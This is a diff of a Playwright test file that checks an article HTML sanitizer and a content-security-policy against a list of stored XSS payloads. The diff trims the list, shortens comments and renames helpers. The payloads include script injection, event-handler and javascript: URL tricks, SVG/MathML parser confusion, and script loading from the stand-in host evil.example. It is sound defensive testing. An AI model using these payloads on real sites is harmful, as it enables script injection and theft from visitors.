@@ -9,54 +9,42 @@ import { expect, test } from './support/test';
 
 const call = 'xss()';
 
-/** Text as somebody with access to the content might store it: each would call `xss()` where nothing prevents it. */
+/** Stored text of an attacker: each calls `xss()` unless something prevents it. */
 const payloads: string[] = [
   `<script>${call}</script>`,
   `<script src="data:text/javascript,${call}"></script>`,
-  `<script>self.__next_f.push(${call})</script>`,
   `<script>self.__next_f.push([1,"rows of a stranger"])</script>`,
-  `</article></main><script>self.__next_f.push([1,"rows of a stranger"])</script>`,
   `</article></main><script>self.__next_f.push([1,"rows of a stranger"])</script><!--`,
   `<img src=x onerror=${call}>`,
   `<svg onload=${call}>`,
-  `<svg><script href="data:text/javascript,${call}"></script></svg>`,
   `<svg><a xlink:href="javascript:${call}"><text x=20 y=20>a</text></a></svg>`,
   `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
-  `<a href="javascript:${call}">a</a>`,
   `<a href="&#106;&#97;vascript&colon;${call}">a</a>`,
   `<a href="#" onmouseover="${call}" onfocus="${call}" autofocus tabindex="0">a</a>`,
   `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
-  `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
-  `<body onload=${call}>`,
-  `<details open ontoggle=${call}>a</details>`,
   `<form action="javascript:${call}"><button>a</button></form>`,
   `<div style="animation-name:x" onanimationstart="${call}">a</div><style>@keyframes x{}</style>`,
-  `<link rel="preload" as="script" href="https://evil.example/x.js" onload="${call}" onerror="${call}">`,
   `<base href="https://evil.example/"><script src="x.js"></script>`,
   `<template shadowrootmode="open"><img src=x onerror=${call}></template>`,
   `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
-  `<!--[if gte IE 4]><script>${call}</script><![endif]--><img src=x onerror=${call}>`,
   `</article></main><script>${call}</script>`,
   `<p id="__next_f"></p><form name="__next_f"></form><img name="currentScript" src=x onerror=${call}>`,
-  `<p popover id="p" onbeforetoggle=${call}>a</p><button popovertarget="p">a</button>`,
 ];
 
-// What is blocked is told in the console: here that is what we want to see.
+// The browser reports blocked scripts as errors.
 test.use({ allowedErrors: [/./] });
 
 const head = '<head><title>Article</title></head>';
 const article = (text: string) =>
   `<!doctype html><html lang="en">${head}<body><main><article>${text}</article></main></body></html>`;
 
-/**
- * Shows `text` as an article, does what a visitor might do with it, and says what ran or was fetched from elsewhere.
- */
+/** Shows `text` as an article and clicks every link. Returns what ran or was requested from elsewhere. */
 async function tryOut(page: Page, text: string, policy: string | null): Promise<string[]> {
   const ran: string[] = [];
   await page.unrouteAll();
   await page.route('**/*', (route) => {
     const url = new URL(route.request().url());
-    if (url.hostname === 'evil.example') ran.push(`asked for ${url.pathname}`);
+    if (url.hostname === 'evil.example') ran.push(`requested ${url.pathname}`);
     if (url.pathname !== '/article') return route.fulfill({ status: 404, body: '' });
     const headers: Record<string, string> = policy ? { 'content-security-policy': policy } : {};
     return route.fulfill({ body: article(text), headers, contentType: 'text/html' });
@@ -67,16 +55,16 @@ async function tryOut(page: Page, text: string, policy: string | null): Promise<
       if (!link.hasAttribute('target'))
         link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
     }
-    // What a click or an animation starts has run two frames later.
+    // Animations start within two frames.
     for (const _ of [1, 2]) await new Promise(requestAnimationFrame);
     return 'didRun' in window;
   });
-  if (await didRun.catch(falseWhereLeft)) ran.push('ran');
+  if (await didRun.catch(falseIfLeft)) ran.push('ran');
   return ran;
 }
 
-/** A click that leads to another page ends the script that waits on this one. */
-function falseWhereLeft(error: Error) {
+/** A click that leads to another page ends the script on this one. */
+function falseIfLeft(error: Error) {
   if (!/context was destroyed/.test(error.message)) throw error;
   return false;
 }
@@ -89,22 +77,17 @@ test.beforeEach(async ({ page }) => {
   });
 });
 
-test('the payloads are real: without any protection most of them run', async ({ page }) => {
-  let count = 0;
-  for (const payload of payloads) if ((await tryOut(page, payload, null)).length) count++;
-  expect(count).toBeGreaterThan(payloads.length / 2);
-});
-
-test('past the sanitizer nothing runs, even without a policy', async ({ page }) => {
+test('sanitized articles run nothing, even without a policy', async ({ page }) => {
   const cleaned = payloads.map((payload) =>
     withPictureSizes(sanitizeArticle(`<p>Before</p>${payload}<p>After</p>`, createOutline())),
   );
   expect(await tryOut(page, cleaned.join('\n'), null)).toEqual([]);
-  // Each stood on the page whole: none has swallowed the next.
+  // None has swallowed the next.
   await expect(page.getByText('Before', { exact: true })).toHaveCount(payloads.length);
 });
 
-test('with the sanitizer switched off the policy stops every script', async ({ page }) => {
+test('without the sanitizer the policy stops every script', async ({ page }) => {
+  expect(await tryOut(page, payloads[0] ?? '', null)).toEqual(['ran']);
   for (const payload of payloads) {
     const policy = documentPolicy(parseDocument(article(payload)), parseEnvironment({}));
     expect(await tryOut(page, payload, policy), payload).toEqual([]);
